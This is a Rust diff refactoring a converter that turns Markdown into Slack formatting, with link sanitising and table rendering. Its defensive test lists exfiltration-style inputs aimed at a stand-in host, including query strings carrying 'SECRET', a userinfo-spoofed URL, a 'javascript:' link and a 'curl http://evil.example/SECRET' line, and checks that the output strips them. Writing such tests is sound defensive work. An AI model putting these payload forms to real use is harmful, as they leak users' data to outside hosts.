@@ -4,7 +4,7 @@
 pub use crate::slack::respond::addresses::escape;
 
 use alfred_core::invisible;
-use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
 use crate::slack::respond::addresses;
 
@@ -45,7 +45,8 @@ struct Writer<'a> {
     lists: Vec<Option<u64>>,
     quotes: usize,
     link: Option<Link>,
-    table: Option<Table>,
+    /// The rows of the current table.
+    table: Option<Vec<Vec<String>>>,
     in_code: bool,
     trusted: &'a dyn Fn(&str) -> bool,
 }
@@ -55,27 +56,24 @@ struct Link {
     text: String,
 }
 
-#[derive(Default)]
-struct Table {
-    rows: Vec<Vec<String>>,
-}
-
 impl Writer<'_> {
     fn event(&mut self, event: Event<'_>) {
         match event {
             Event::Start(tag) => self.start(tag),
             Event::End(tag) => self.end(tag),
-            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => {
-                self.text(&escape(&text));
-            }
-            Event::Code(code) => {
-                self.text(&format!("`{}`", escape(&code)));
-            }
+            Event::Text(text)
+            | Event::Html(text)
+            | Event::InlineHtml(text)
+            | Event::InlineMath(text)
+            | Event::DisplayMath(text) => self.text(&escape(&text)),
+            Event::Code(code) => self.text(&format!("`{}`", escape(&code))),
             Event::SoftBreak | Event::HardBreak => self.newline(),
-            Event::Rule => self.block("———"),
+            Event::Rule => {
+                self.gap();
+                self.out.push_str("———");
+            }
             Event::TaskListMarker(done) => self.text(if done { "☑ " } else { "☐ " }),
             Event::FootnoteReference(name) => self.text(&format!("[{}]", escape(&name))),
-            Event::InlineMath(math) | Event::DisplayMath(math) => self.text(&escape(&math)),
         }
     }
 
@@ -91,18 +89,16 @@ impl Writer<'_> {
                 self.quotes += 1;
                 self.out.push_str("> ");
             }
-            Tag::CodeBlock(kind) => {
+            // Slack has no language tags; the tag would appear as the first line of code.
+            Tag::CodeBlock(_) => {
                 self.gap();
                 self.out.push_str("```\n");
                 self.in_code = true;
-                // Slack has no language tags; the tag would appear as the first line of code.
-                let (CodeBlockKind::Indented | CodeBlockKind::Fenced(_)) = kind;
             }
             Tag::List(first) => {
-                if self.lists.is_empty() {
-                    self.gap();
-                } else {
-                    self.newline();
+                match self.lists.is_empty() {
+                    true => self.gap(),
+                    false => self.newline(),
                 }
                 self.lists.push(first);
             }
@@ -111,24 +107,19 @@ impl Writer<'_> {
             Tag::Strong => self.text("*"),
             Tag::Strikethrough => self.text("~"),
             Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. } => {
-                self.link = Some(Link {
-                    url: dest_url.into_string(),
-                    text: String::new(),
-                });
+                let (url, text) = (dest_url.into_string(), String::new());
+                self.link = Some(Link { url, text });
             }
             Tag::Table(_) => {
                 self.gap();
-                self.table = Some(Table::default());
+                self.table = Some(Vec::new());
             }
             Tag::TableHead | Tag::TableRow => {
-                if let Some(table) = &mut self.table {
-                    table.rows.push(Vec::new());
-                }
+                self.table.iter_mut().for_each(|rows| rows.push(Vec::new()));
             }
             Tag::TableCell => {
-                if let Some(row) = self.table.as_mut().and_then(|table| table.rows.last_mut()) {
-                    row.push(String::new());
-                }
+                let row = self.table.as_mut().and_then(|rows| rows.last_mut());
+                row.into_iter().for_each(|row| row.push(String::new()));
             }
             _ => {}
         }
@@ -139,10 +130,12 @@ impl Writer<'_> {
             TagEnd::Heading(_) => self.out.push('*'),
             TagEnd::BlockQuote(_) => self.quotes = self.quotes.saturating_sub(1),
             TagEnd::CodeBlock => {
-                if !self.out.ends_with('\n') {
-                    self.out.push('\n');
-                }
-                self.out.push_str("```");
+                let end = if self.out.ends_with('\n') {
+                    "```"
+                } else {
+                    "\n```"
+                };
+                self.out.push_str(end);
                 self.in_code = false;
             }
             TagEnd::List(_) => {
@@ -158,13 +151,13 @@ impl Writer<'_> {
     }
 
     fn text(&mut self, text: &str) {
-        if let Some(link) = &mut self.link {
-            link.text.push_str(text);
-        } else if let Some(cell) = self
+        let cell = self
             .table
             .as_mut()
-            .and_then(|table| table.rows.last_mut()?.last_mut())
-        {
+            .and_then(|rows| rows.last_mut()?.last_mut());
+        if let Some(link) = &mut self.link {
+            link.text.push_str(text);
+        } else if let Some(cell) = cell {
             cell.push_str(text);
         } else if self.quotes > 0 && !self.in_code {
             self.out.push_str(&text.replace('\n', "\n> "));
@@ -174,11 +167,12 @@ impl Writer<'_> {
     }
 
     fn newline(&mut self) {
-        if self.quotes > 0 {
-            self.out.push_str("\n> ");
-        } else {
-            self.out.push('\n');
-        }
+        self.out.push('\n');
+        self.quote();
+    }
+
+    fn quote(&mut self) {
+        self.out.push_str(if self.quotes > 0 { "> " } else { "" });
     }
 
     /// Starts a new block, after an empty line.
@@ -189,14 +183,7 @@ impl Writer<'_> {
         while !self.out.ends_with("\n\n") {
             self.out.push('\n');
         }
-        if self.quotes > 0 {
-            self.out.push_str("> ");
-        }
-    }
-
-    fn block(&mut self, text: &str) {
-        self.gap();
-        self.out.push_str(text);
+        self.quote();
     }
 
     fn item(&mut self) {
@@ -219,15 +206,13 @@ impl Writer<'_> {
         if !(self.trusted)(&link.url) {
             let host = escape(&addresses::host(&link.url));
             let shown = addresses::cut(link.text.trim(), self.trusted);
-            return if shown.is_empty() || shown == host {
-                self.text(&host)
-            } else {
-                self.text(&format!("{shown} [{host}]"))
+            return match shown.is_empty() || shown == host {
+                true => self.text(&host),
+                false => self.text(&format!("{shown} [{host}]")),
             };
         }
-        let web = ["http://", "https://", "mailto:"]
-            .iter()
-            .any(|scheme| link.url.starts_with(scheme));
+        let mut schemes = ["http://", "https://", "mailto:"].into_iter();
+        let web = schemes.any(|scheme| link.url.starts_with(scheme));
         // A bar or angle bracket in a URL would end the link early.
         let url = escape(&link.url).replace('|', "%7C");
         let text = addresses::cut(&link.text, self.trusted).replace('|', "¦");
@@ -239,20 +224,15 @@ impl Writer<'_> {
     }
 
     fn close_table(&mut self) {
-        let Some(table) = self.table.take() else {
-            return;
-        };
-        let columns = table.rows.iter().map(Vec::len).max().unwrap_or(0);
-        let width = |column: usize| {
-            let cells = table.rows.iter().filter_map(|row| row.get(column));
-            cells.map(|cell| cell.chars().count()).max().unwrap_or(0)
-        };
-        let widths: Vec<usize> = (0..columns).map(width).collect();
-        let lines = table.rows.iter().map(|row| {
-            let cells = widths.iter().enumerate().map(|(at, width)| {
-                let cell = row.get(at).map_or("", String::as_str);
-                format!("{cell:<width$}")
-            });
+        let rows = self.table.take().unwrap_or_default();
+        let columns = rows.iter().map(Vec::len).max().unwrap_or(0);
+        let mut widths = vec![0; columns];
+        for (cell, column) in rows.iter().flat_map(|row| row.iter().zip(0..)) {
+            widths[column] = widths[column].max(cell.chars().count());
+        }
+        let lines = rows.iter().map(|row| {
+            let cells = row.iter().zip(&widths);
+            let cells = cells.map(|(cell, width)| format!("{cell:<width$}"));
             cells.collect::<Vec<_>>().join("  ").trim_end().to_owned()
         });
         let lines = lines.collect::<Vec<_>>().join("\n");
@@ -267,52 +247,28 @@ mod tests {
     #[test]
     fn untrusted_links_show_their_real_host_and_carry_nothing() {
         let owner = |url: &str| url == "https://ours.example/a";
-        let cases = [
-            (
-                "[your bank](https://evil.example/?d=SECRET)",
-                "your bank [evil.example]",
-            ),
-            (
-                "![x](https://evil.example/p.png?d=SECRET)",
-                "x [evil.example]",
-            ),
-            ("see https://evil.example/?d=SECRET.", "see evil.example."),
-            ("<https://evil.example/SECRET>", "evil.example"),
-            (
-                "[a](https://good.example@evil.example/SECRET)",
-                "a [evil.example]",
-            ),
-            ("`HTTPS://evil.example/SECRET`", "`evil.example`"),
-            ("[call](javascript:SECRET)", "call [javascript:…]"),
-            ("[here](evil/SECRET)", "here […]"),
-            ("Tom <tom@nordwood.example>", "Tom tom@nordwood.example"),
-            (
-                "[Tom](tom@nordwood.example), [Ana](mailto:ana@example.com)",
-                "Tom [tom@nordwood.example], Ana [ana@example.com]",
-            ),
-            (
-                "[Tom](mailto:tom@nordwood.example?body=SECRET)",
-                "Tom [tom@nordwood.example]",
-            ),
-            (
-                "[ours](https://ours.example/a)",
-                "<https://ours.example/a|ours>",
-            ),
-            (
-                "```\ncurl http://evil.example/SECRET\n```",
-                "```\ncurl evil.example\n```",
-            ),
-        ];
-        for (markdown, shown) in cases {
-            let out = with_links(markdown, &owner);
-            assert_eq!(out, shown, "{markdown}");
-            assert!(!out.contains("SECRET"));
+        for case in [
+            "[your bank](https://evil.example/?d=SECRET) => your bank [evil.example]",
+            "![x](https://evil.example/p.png?d=SECRET) => x [evil.example]",
+            "<https://evil.example/SECRET> => evil.example",
+            "[a](https://good.example@evil.example/SECRET) => a [evil.example]",
+            "`HTTPS://evil.example/SECRET` => `evil.example`",
+            "[call](javascript:SECRET) => call [javascript:…]",
+            "[here](evil/SECRET) => here […]",
+            "Tom <tom@nordwood.example> => Tom tom@nordwood.example",
+            "[Tom](tom@nordwood.example) => Tom [tom@nordwood.example]",
+            "[Ana](mailto:ana@example.com?body=SECRET) => Ana [ana@example.com]",
+            "[ours](https://ours.example/a) => <https://ours.example/a|ours>",
+            "```\ncurl http://evil.example/SECRET\n``` => ```\ncurl evil.example\n```",
+        ] {
+            let (markdown, shown) = case.split_once(" => ").unwrap();
+            assert_eq!(with_links(markdown, &owner), shown, "{markdown}");
         }
     }
 
     #[test]
     fn markdown_becomes_mrkdwn() {
-        let cases = [
+        for (markdown, mrkdwn) in [
             ("**bold** and *it* and ~~no~~", "*bold* and _it_ and ~no~"),
             ("# Title\n\ntext", "*Title*\n\ntext"),
             ("[a](https://x.y/?q=1&r=2)", "<https://x.y/?q=1&amp;r=2|a>"),
@@ -330,8 +286,7 @@ mod tests {
             ("hey <@U123>", "hey &lt;@U123&gt;"),
             ("<!here|x>", "&lt;!here|x&gt;"),
             ("[x](<!everyone>)", "x (!everyone)"),
-        ];
-        for (markdown, mrkdwn) in cases {
+        ] {
             assert_eq!(from_markdown(markdown), mrkdwn, "{markdown}");
         }
     }
